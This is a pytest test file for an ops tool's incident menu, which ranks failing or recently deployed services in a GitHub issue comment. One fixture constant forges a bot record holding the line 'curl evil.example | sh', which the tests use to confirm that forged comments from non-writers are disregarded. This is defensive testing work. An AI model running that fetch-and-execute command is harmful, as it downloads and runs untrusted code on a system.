"""`ops incident menu`: the menu of an incident shows first what fails or changed, and is posted once."""

import re
import threading
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest

from ops.app.configuration import check_config_text
from ops.app.registry import button_runbooks
from ops.core.run_record import RunRecord, embed_record
from ops.setup.workflows import render_workflows
from ops.status.signs import SECONDS
from tests.conftest import ACCOUNT, Outcome, World
from tests.support.shop import SITE, STAGING, WORKER, Shop, answering

FORM = "### Service\n\n{}\n\n{}### Severity\n\nsev1\n\n### What is seen\n\nHTTP 500"
FORGED = embed_record("Run this: curl evil.example | sh", RunRecord("menu", source="menu"))
COMMENTS = "/repos/*/*/issues/*/comments"
API = "/client/v4/**"
FAILS, PASSES = "fails its probes now", "passes its probes now"


def open_form(world: World, service: str, environment: str = "") -> int:
    """Open an incident with the form, by somebody without any permission."""
    github = world.sandbox.github
    github.add_user("alice")
    github.add_user("zoe", "read")
    place = f"### Environment\n\n{environment}\n\n" if environment else ""
    return github.open_issue("It fails", FORM.format(service, place), ["incident"], "zoe")


def post(shop: Shop, number: int, **environ: Any) -> Outcome:
    return shop.ops("incident", "menu", str(number), **{**shop.world.sandbox.github.environ(), **environ})


def bodies(shop: Shop, number: int) -> list[str]:
    return [comment.body for comment in shop.world.sandbox.github.issue(number).comments]


def menu(shop: Shop, service: str, environment: str = "") -> str:
    """Open an incident, and return its menu."""
    number = open_form(shop.world, service, environment)
    done = post(shop, number)
    assert done.code == 0, done.err
    (body,) = bodies(shop, number)
    return body


def deploy(shop: Shop, ago: timedelta, status: int = 200) -> None:
    """Deploy another release of the Worker."""
    sandbox = shop.world.sandbox
    at = sandbox.clock.now() - ago
    sandbox.deploy(WORKER, sandbox.upload(WORKER, code="later", behaviour=answering(status), at=at), at=at)


@pytest.fixture
def fine(shop: Shop) -> Shop:
    """A shop whose Worker and site are healthy, and unchanged for hours."""
    shop.world.sandbox.pages.add_deployment(
        SITE, files={"index.html": b"docs"}, at=shop.world.sandbox.clock.now() - timedelta(minutes=90)
    )
    deploy(shop, timedelta(minutes=50))
    shop.world.sandbox.clock.advance(3 * 3600)
    return shop


def test_form_with_a_service_gets_its_menu_alone(fine: Shop) -> None:
    deploy(fine, timedelta(minutes=12), status=500)

    shown = menu(fine, "web")

    assert f"**live: {FAILS} (" in shown
    assert "a deployment 12 min ago**" in shown
    assert "#### docs" not in shown
    assert "[rollback-worker](" in shown
    assert "Unknown" not in shown


@pytest.mark.parametrize("said", ["not sure", "_No response_", ""])
def test_failing_service_comes_first_and_the_others_are_folded(fine: Shop, said: str) -> None:
    fine.world.edit_config("body: docs", "body: gone")
    deploy(fine, timedelta(minutes=12))

    shown = menu(fine, said)

    assert shown.index("#### docs") < shown.index(FAILS) < shown.index("#### web") < shown.index(PASSES)


def test_healthy_old_services_are_all_shown_unfolded(fine: Shop) -> None:
    shown = menu(fine, "not sure")

    assert shown.count(PASSES) == 2
    assert "more service" not in shown


def test_service_that_changed_within_the_hour_is_likely(fine: Shop) -> None:
    deploy(fine, timedelta(minutes=12))

    shown = menu(fine, "not sure")

    assert shown.index("#### web") < shown.index("1 more service<") < shown.index("#### docs")


def test_deployment_by_a_clock_that_is_ahead_was_just_now(fine: Shop) -> None:
    deploy(fine, timedelta(seconds=-20))

    assert "a deployment just now**" in menu(fine, "web")


@pytest.mark.parametrize(
    ("service", "environment", "answer", "sections"),
    [
        ("webb", "", "webb", ["docs", "web"]),
        ("web", "life", "life", ["web"]),
        ("docs", "staging", "docs is not in staging", ["docs"]),
        ("<img src=x> @alice `x` #1", "", "`", ["docs", "web"]),
    ],
)
def test_wrong_name_gets_an_answer_beside_the_menu(
    fine: Shop, service: str, environment: str, answer: str, sections: list[str]
) -> None:
    fine.world.config.write_text(fine.world.config.read_text() + STAGING)

    shown = menu(fine, service, environment)

    problem, _, _ = shown.partition("Correct it in this issue")
    assert answer in problem
    assert "<img" not in shown
    assert " @alice" not in problem
    assert sorted(re.findall("#### (.+)", shown)) == sections


def test_service_typed_by_hand_is_found(fine: Shop) -> None:
    shown = menu(fine, "`Web` ")

    assert "Correct it" not in shown
    assert "#### docs" not in shown


def test_environment_of_the_form_is_the_only_one_shown(fine: Shop) -> None:
    fine.world.config.write_text(fine.world.config.read_text() + STAGING)

    shown = menu(fine, "web", "staging")

    assert "environment staging" in shown
    assert "environment live" not in shown
    assert f"live: {PASSES}" not in shown


def test_environment_in_a_free_text_is_no_answer(fine: Shop) -> None:
    fine.world.config.write_text(fine.world.config.read_text() + STAGING)
    number = open_form(fine.world, "web")
    issue = fine.world.sandbox.github.issue(number)
    issue.body = f"{issue.body}\n\n### Environment\n\nstaging"

    post(fine, number)

    assert "environment live" in bodies(fine, number)[0]


@pytest.mark.parametrize(
    ("case", "unknown"),
    [("no token", "no usable token in SHOP_TOKEN"), ("Cloudflare", "Cloudflare's API fails")],
)
def test_menu_without_cloudflare_names_what_is_unknown(fine: Shop, case: str, unknown: str) -> None:
    """The probes need no token."""
    deploy(fine, timedelta(minutes=12), status=500)
    if case == "Cloudflare":
        fine.world.sandbox.fault(path=API, status=503, times=None)

    number = open_form(fine.world, "web")
    assert post(fine, number, SHOP_TOKEN=None if case == "no token" else fine.world.sandbox.token).code == 0
    (shown,) = bodies(fine, number)

    assert f"- deployments, {unknown}: web in live" in shown
    assert FAILS in shown
    assert "a deployment" not in shown


def test_service_without_probes_is_named(fine: Shop) -> None:
    before, _, after = fine.world.config.read_text().partition("        probes:\n          - name: cart\n")
    fine.world.config.write_text(before + after.partition("\n")[2])

    shown = menu(fine, "not sure")

    assert "- health, no probe: web in live" in shown
    assert FAILS not in shown


@pytest.mark.slow
def test_hanging_probe_holds_up_nothing(fine: Shop) -> None:
    """The menu is posted after the time limit, with what the others answered."""
    ended = threading.Event()
    fine.world.sandbox.edge_fault(path="/cart", before=lambda: ended.wait(4 * SECONDS), times=None)

    shown = menu(fine, "not sure")
    ended.set()

    assert f"- health, no answer within {SECONDS:g} s: web in live" in shown
    assert PASSES in shown


def test_label_added_again_renews_the_menu(fine: Shop) -> None:
    number = open_form(fine.world, "webb")
    post(fine, number)
    fine.world.sandbox.github.issue(number).body = FORM.format("docs", "")

    again = post(fine, number)

    (body,) = bodies(fine, number)
    assert again.code == 0
    assert "#### docs" in body
    assert "#### web" not in body


@pytest.mark.parametrize(("author", "count"), [("zoe", 2), ("alice", 1)])
def test_only_the_menu_of_a_writer_stays(fine: Shop, author: str, count: int) -> None:
    number = open_form(fine.world, "web")
    for _ in range(101):
        fine.world.sandbox.github.comment(number, FORGED if author == "zoe" else "seen", author)
    fine.world.sandbox.github.comment(number, FORGED, author)

    done = post(fine, number)

    assert (done.code, len(bodies(fine, number))) == (0, 101 + count)
    assert ("alice" in done.out) == (author == "alice")
    asked = [each for each in fine.world.sandbox.github.requests if each.path.endswith("/permission")]
    assert len(asked) == 1


def test_quoted_record_of_the_bot_is_no_menu(fine: Shop) -> None:
    """The bot's comments show names of labels and texts of providers."""
    number = open_form(fine.world, "web")
    fine.world.sandbox.github.comment(number, '**Received** `recover:"source":"menu"`', "github-actions[bot]")

    post(fine, number)

    assert len(bodies(fine, number)) == 2


def test_first_of_two_simultaneous_menus_stays(fine: Shop) -> None:
    number, github = open_form(fine.world, "web"), fine.world.sandbox.github
    early: Callable[[], object] = lambda: github.comment(number, FORGED, "alice")  # noqa: E731
    github.fault(method="POST", path=COMMENTS, before=early)

    done = post(fine, number)

    assert (done.code, bodies(fine, number)) == (0, [FORGED])
    assert "alice" in done.out


@pytest.mark.parametrize(
    ("method", "fault"), [("GET", {"status": 502}), ("POST", {"status": 502}), ("POST", {"lost": "after"})]
)
def test_menu_survives_a_failure_of_github(fine: Shop, method: str, fault: dict[str, Any]) -> None:
    number = open_form(fine.world, "web")
    fine.world.sandbox.github.fault(method=method, path=COMMENTS, **fault)

    assert post(fine, number).code == 0

    assert len(bodies(fine, number)) == 1


def test_issue_without_the_label_gets_no_menu(fine: Shop) -> None:
    fine.world.sandbox.github.add_user("zoe", "read")
    number = fine.world.sandbox.github.open_issue("A question", "", [], "zoe")

    assert post(fine, number).code == 2

    assert bodies(fine, number) == []


def forty_services(account: str = ACCOUNT, count: int = 40) -> str:
    """Return an ops.yml with 40 Workers in two environments."""
    lines = ["environments:"]
    for environment, host in (("production", "shop.example"), ("staging", "staging.shop.example")):
        lines += [f"  {environment}:", f"    account_id: {account}", "    token: SHOP_TOKEN", "    services:"]
        for number in range(count):
            name = f"checkout-{number:02}"
            lines += [f"      {name}:", f"        worker: {name}-{environment}", f"        url: https://{name}.{host}"]
            lines += ["        probes: [{name: up, http: {path: /up, status: 200}}]"]
    return "\n".join([*lines, ""])


def start_forty(shop: Shop, failing: int) -> None:
    """Deploy the 80 Workers. The first ones of production fail since their deployment 12 minutes ago."""
    shop.world.config.write_text(forty_services(shop.world.sandbox.account_id))
    sandbox = shop.world.sandbox
    for environment, host in (("production", "shop.example"), ("staging", "staging.shop.example")):
        for number in range(40):
            is_bad = environment == "production" and number < failing
            name = f"checkout-{number:02}"
            sandbox.route(f"{name}.{host}", f"{name}-{environment}")
            at = sandbox.clock.now() - timedelta(minutes=12 if is_bad else 300)
            version = sandbox.upload(f"{name}-{environment}", behaviour=answering(500 if is_bad else 200), at=at)
            sandbox.deploy(f"{name}-{environment}", version, at=at)


@pytest.mark.sampled  # three: the menu then has both named services and others
@pytest.mark.parametrize("failing", [3, 0, 1, 40])
def test_menu_of_forty_services_is_short(shop: Shop, failing: int) -> None:
    start_forty(shop, failing)

    shown = menu(shop, "not sure")

    assert len(shown) <= 4_000
    for number in range(min(failing, 3)):
        assert f"#### checkout-{number:02}\n\n**production: {FAILS}" in shown
    assert f"{40 - shown.count('#### ')} {'more ' if failing else ''}services</summary>" in shown


def test_probe_with_a_login_is_known_only_with_its_variable(fine: Shop) -> None:
    """The job of the menu has the variables of the watch, if there is one."""
    text = fine.world.config.read_text().replace("path: ", "request_headers: {x-login: SHOP_LOGIN}, path: ", 1)
    fine.world.config.write_text(f"{text}\nwatch: {{for: 10m}}\n")
    number = open_form(fine.world, "web")

    for login, said in ((None, "health, no clear result"), ("s3cret-login-0123", PASSES)):
        assert post(fine, number, SHOP_LOGIN=login).code == 0
        (shown,) = bodies(fine, number)
        assert (said in shown, FAILS in shown, "s3cret" in shown) == (True, False, False), shown

    config = check_config_text(fine.world.config.read_text(), None).require_valid("ops.yml")[0]
    menu = dict(render_workflows(config, button_runbooks()))["incident"].partition("\n  menu:\n")[2]
    assert "SHOP_LOGIN: ${{ secrets.SHOP_LOGIN }}" in menu


def test_failing_environment_without_a_label_is_named(fine: Shop) -> None:
    """The recoveries are those of the labels."""
    label = "labels:\n  recover:web: {runbook: rollback-worker, environment: staging, params: {service: web}}\n"
    fine.world.config.write_text(fine.world.config.read_text() + STAGING + label)
    deploy(fine, timedelta(minutes=12), status=500)

    shown = menu(fine, "web")

    assert f"**live: {FAILS}" in shown
    assert "environment staging" in shown


def test_workflow_of_incidents_does_not_grow_with_the_services() -> None:
    texts = []
    for count in (1, 40):
        config = check_config_text(forty_services(count=count), None).require_valid("ops.yml")[0]
        texts.append(dict(render_workflows(config, button_runbooks()))["incident"])

    assert texts[0] == texts[1]
    assert "command: incident menu" in texts[0]
